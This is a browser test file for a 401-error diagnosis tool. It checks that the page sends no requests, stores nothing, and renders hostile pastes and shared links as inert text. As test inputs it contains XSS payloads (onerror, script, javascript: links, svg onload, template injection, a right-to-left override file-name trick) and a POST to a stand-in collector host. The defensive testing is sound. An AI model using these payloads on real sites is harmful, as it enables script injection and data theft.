import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { deflateRawSync } from 'node:zlib'

import type { Page } from 'playwright-core'
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest'

import { diagnose } from '../../src/index.ts'
import { hostile } from '../adapters/pastes.ts'
import { drop, forget, paste } from './acts.ts'
import { noBrowser, openHouse, serveBare } from './browser.ts'
import type { House, Visit } from './browser.ts'

const expired = readFileSync(join(import.meta.dirname, '../cases/token-expired/curl-trace-with-date.txt'), 'utf8')

/** What would run, or lead somewhere, if any of it became markup. */
const alive = `HTTP/1.1 401 Unauthorized
WWW-Authenticate: Bearer realm="<img src=x onerror=alert(1)>", error="invalid_token", error_description="<script>alert(2)</script> [x](javascript:alert(3)) The token expired"

<a href="javascript:alert(4)">x</a><svg onload=alert(5)><iframe srcdoc="<script>alert(6)</script>"></iframe>
{{constructor.constructor('alert(7)')()}} \u202egnp.exe\u0007 \`<b>\``

const fragmentOf = (value: unknown): string => `#d=${deflateRawSync(JSON.stringify(value)).toString('base64url')}`

const send = async (): Promise<string> => {
  try {
    await fetch('https://collector.example.com/', { method: 'POST', body: 'x', mode: 'no-cors' })
    return 'sent'
  } catch (error) {
    return error instanceof TypeError ? 'refused' : String(error)
  }
}

/** What becomes of a request that script of the page, or of its worker, would make; and which of them were made. */
const sends = async ({ page, requests }: Visit): Promise<{ said: readonly unknown[]; asked: readonly string[] }> => {
  const [worker] = page.workers()
  const said = [await page.evaluate(send), await worker?.evaluate(send)]
  await page.context().close()
  return { said, asked: requests.filter((url) => url.includes('collector')) }
}

describe.skipIf(noBrowser)('the page keeps to itself', () => {
  let house: House
  let visit: Visit
  let page: Page
  beforeAll(async () => {
    house = await openHouse()
    visit = await house.visit({ permissions: ['clipboard-read', 'clipboard-write'] })
    page = visit.page
  }, 60_000)
  beforeEach(() => forget(page))
  afterAll(() => house.close())

  const foreign = async (of: Page): Promise<readonly string[]> =>
    of.evaluate(() => {
      const ours =
        'h2,h3,p,ol,ul,li,section,article,aside,figure,figcaption,blockquote,button,code,span,b,mark,div,details,summary,pre'
      return [...document.querySelectorAll('#thread *')]
        .filter((element) => !(element instanceof SVGElement) && !element.matches(ours))
        .map(({ outerHTML }) => outerHTML)
    })

  test('no request is made once it is ready, whatever is pasted, dropped, pressed or shared', async () => {
    const before = visit.requests.length
    expect(
      visit.requests.every((url) => url.startsWith(house.address) || url.startsWith(`blob:${house.address}`)),
    ).toBe(true)
    await paste(page, `${expired}\n{"kty":"RSA","n":"sXch","e":"AQAB","kid":"2026-01-a"}`)
    await drop(
      page,
      'page.har',
      JSON.stringify({ log: { version: '1.2', creator: { name: 'x', version: '1' }, entries: [] } }),
    )
    await page.keyboard.press('Control+Enter')
    for (const name of ['Why', 'For visitors', 'Copy a link to this'])
      await page.getByRole('button', { name, exact: true }).last().click()
    await page.getByText('Copied').first().waitFor()
    expect(visit.requests.slice(before)).toEqual([])
  })

  test('the browser refuses to send anything for it, in the page and in its worker', async () => {
    expect(await sends(await house.visit())).toEqual({ said: ['refused', 'refused'], asked: [] })
  })

  test('as static files in a folder of a server that knows no policy, it answers, and is refused the same', async () => {
    const bare = await openHouse(await serveBare('/tools/401/'))
    const other = await bare.visit({}, 'tools/401/')
    await paste(other.page, expired)
    expect(await other.page.locator('.answer h2').textContent()).toContain('The access token expired')
    expect(await sends(other)).toEqual({ said: ['refused', 'refused'], asked: [] })
    await bare.close()
  }, 60_000)

  test('it sets no cookie and stores nothing', async () => {
    await paste(page, expired)
    expect(await page.context().cookies()).toEqual([])
    expect(
      await page.evaluate(async () => [
        localStorage.length,
        sessionStorage.length,
        (await indexedDB.databases()).length,
        (await caches.keys()).length,
      ]),
    ).toEqual([0, 0, 0, 0])
  })

  test.each([
    ['markup and scripts', alive],
    ['what comes to life in chats', hostile],
  ])('a paste with %s stays text', async (_, text) => {
    await paste(page, text)
    expect(await foreign(page)).toEqual([])
    expect(await page.locator('#thread [href], #thread [src], #thread [style]').count()).toBe(0)
    expect(await page.locator('#thread').textContent()).not.toMatch(/[\u202e\u0007]/)
    expect(visit.complaints).toEqual([])
  })

  test('a link whose fragment is hostile stays text, and says where it comes from', async () => {
    const diagnosis = await diagnose({ message: expired, files: [], now: new Date() })
    const evil = '<img src=x onerror=alert(1)> [x](javascript:alert(2)) `<b>`'
    const [first] = diagnosis.findings
    const changed = {
      ...diagnosis,
      text: evil,
      findings: [{ ...first, title: evil, why: evil }],
      steps: { visitor: [evil], developer: [evil] },
    }
    const other = await house.visit({}, fragmentOf(changed))
    await other.page.locator('.answer').waitFor()
    expect(await foreign(other.page)).toEqual([])
    expect(await other.page.locator('.notice').first().textContent()).toContain('read a command before you run it')
    expect(other.complaints).toEqual([])
    await other.page.context().close()
  })

  test.each([
    ['no diagnosis', fragmentOf({ findings: 'none' })],
    ['no JSON', `#d=${deflateRawSync('}{').toString('base64url')}`],
    ['no packed text', '#d=AAAA'],
    ['more than is read', fragmentOf({ text: 'x'.repeat(3_000_000) })],
    ['something else', '#d=%3Cscript%3E'],
  ])('a link with %s is refused in a sentence', async (_, fragment) => {
    await page.evaluate((hash) => {
      location.hash = ''
      location.hash = hash
    }, fragment)
    await page.locator('.notice', { hasText: 'This link holds no diagnosis' }).last().waitFor()
    expect(visit.complaints).toEqual([])
  })

  test('a megabyte is answered, while the page goes on drawing', async () => {
    const line = '2026-01-15T12:00:00Z app[1] GET /v1/items/42 from 10.0.0.7 in 12 ms, cache hit, 200 OK\n'
    const log = line.repeat(Math.ceil(1_048_576 / line.length))
    await drop(
      page,
      'app.log',
      `${log}HTTP/1.1 401 Unauthorized\nWWW-Authenticate: Bearer error="invalid_token", error_description="The access token expired"\n`,
    )
    const frames = await page.evaluate(async () => {
      document.querySelector<HTMLButtonElement>('button.primary')?.click()
      let frames = 0
      while (!document.querySelector('.answer .actions')) {
        await new Promise(requestAnimationFrame)
        frames += 1
      }
      return frames
    })
    expect(frames).toBeGreaterThan(1)
    expect(await page.locator('.answer h2').last().textContent()).toContain('access token expired')
    expect(await page.locator('.paste li').count()).toBeLessThan(60)
  })
})
